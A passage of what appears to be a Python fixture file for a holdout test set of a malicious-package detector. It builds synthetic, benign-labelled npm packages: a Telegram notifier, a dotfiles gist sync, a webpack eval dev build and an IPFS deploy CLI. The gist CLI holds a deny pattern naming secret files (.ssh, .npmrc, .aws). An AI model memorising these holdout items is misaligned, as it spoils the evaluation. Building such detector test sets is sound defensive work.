    return (await fetch(`${this.base}/sendDocument`, { method: "POST", body: form })).json();
  }
}
module.exports = TelegramNotifier;
''',
    }
    return B(
        "holdout-tg-notify-lite-bot-client",
        "Telegram Bot API client: token and chat id from the caller or env, sends the caller's messages and documents",
        "-", ["network", "env-read", "telegram-api"],
        "SYNTHETIC legitimate package written for the blind holdout.", files,
    )


@benign
def settings_sync_gist():
    files = {
        "package.json": pj(name="dotfiles-gist-sync", version="1.4.0", bin={"dotfiles-gist-sync": "cli.js"}, description="Back up chosen dotfiles to a private gist"),
        "cli.js": r'''#!/usr/bin/env node
const fs = require("fs"), os = require("os"), path = require("path");
const token = process.env.GITHUB_TOKEN;
if (!token) { console.error("set GITHUB_TOKEN (gist scope) to sync"); process.exit(2); }
const conf = JSON.parse(fs.readFileSync(path.join(os.homedir(), ".dotfiles-gist.json"), "utf8"));
const files = {};
for (const f of conf.files) {
  if (/\.ssh|\.npmrc|\.aws|credentials/.test(f)) { console.error(`refusing to upload secret file ${f}`); continue; }
  files[path.basename(f)] = { content: fs.readFileSync(path.join(os.homedir(), f), "utf8") };
}
const url = conf.gistId ? `https://api.github.com/gists/${conf.gistId}` : "https://api.github.com/gists";
fetch(url, { method: conf.gistId ? "PATCH" : "POST", headers: { authorization: `Bearer ${token}`, accept: "application/vnd.github+json" },
  body: JSON.stringify({ public: false, description: "dotfiles", files }) }).then((r) => r.json()).then((g) => console.log(`synced to gist ${g.id}`));
''',
    }
    return B(
        "holdout-dotfiles-gist-sync",
        "CLI uploading the dotfiles the user lists (refusing secret files) to a private gist with the user's GITHUB_TOKEN",
        "-", ["file-read", "token-use", "github-api", "network", "cli"],
        "SYNTHETIC legitimate package written for the blind holdout.", files,
    )


@benign
def webpack_dev_eval_bundle():
    files = {
        "package.json": pj(name="tiny-store-devbuild", version="0.4.0", main="dist/tiny-store.js", description="Tiny state store (development build included)"),
        "dist/tiny-store.dev.js": r'''/*
 * ATTENTION: The "eval" devtool has been used (maybe by default in mode: "development").
 * This devtool is neither made for production nor for readable output files.
 */
(() => {
var __webpack_modules__ = ({
"./src/index.js": ((module) => {
eval("module.exports = function createStore(reducer, state) {\n  const subs = new Set();\n  return {\n    getState: () => state,\n    dispatch(a) { state = reducer(state, a); subs.forEach((f) => f()); },\n    subscribe(f) { subs.add(f); return () => subs.delete(f); },\n  };\n};\n\n//# sourceURL=webpack://tiny-store/./src/index.js?");
})
});
var __webpack_module_cache__ = {};
function __webpack_require__(moduleId) {
  var cachedModule = __webpack_module_cache__[moduleId];
  if (cachedModule !== undefined) return cachedModule.exports;
  var module = __webpack_module_cache__[moduleId] = { exports: {} };
  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);
  return module.exports;
}
var __webpack_exports__ = __webpack_require__("./src/index.js");
module.exports = __webpack_exports__;
})();
''',
        "dist/tiny-store.js": "module.exports=function(e,t){const n=new Set;return{getState:()=>t,dispatch(r){t=e(t,r),n.forEach(e=>e())},subscribe:e=>(n.add(e),()=>n.delete(e))}};\n",
    }
    return B(
        "holdout-tiny-store-webpack-eval-devtool",
        "webpack development build with the 'eval' devtool: every module's source is a string literal passed to eval",
        "-", ["eval-literal", "bundled", "webpack"],
        "SYNTHETIC legitimate package written for the blind holdout; several packages ship their "
        "dev builds like this.", files,
    )


@benign
def ipfs_deploy_cli():
    files = {
        "package.json": pj(name="static-ipfs-deploy", version="2.2.0", bin={"static-ipfs-deploy": "cli.js"}, description="Upload a static site folder to an IPFS pinning service"),
        "cli.js": r'''#!/usr/bin/env node
const fs = require("fs"), path = require("path");
const dir = process.argv[2] || "dist";
const token = process.env.PINNING_TOKEN;
if (!token) { console.error("set PINNING_TOKEN to your pinning service API token"); process.exit(2); }
const endpoint = process.env.PINNING_ENDPOINT || "https://api.pinning.example/pins/upload";
const form = new FormData();
(function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); e.isDirectory() ? walk(p) : form.append("file", new Blob([fs.readFileSync(p)]), path.relative(dir, p)); } })(dir);
fetch(endpoint, { method: "POST", headers: { authorization: `Bearer ${token}` }, body: form })
  .then((r) => r.json()).then((j) => console.log(`pinned: https://ipfs.io/ipfs/${j.cid}/`));
''',
    }
    return B(
        "holdout-static-ipfs-deploy",
        "deploy CLI uploading the user's build folder to an IPFS pinning service with the user's token and printing the gateway link",
        "-", ["network", "file-read", "ipfs", "token-use", "cli"],
        "SYNTHETIC legitimate package written for the blind holdout.", files,
    )
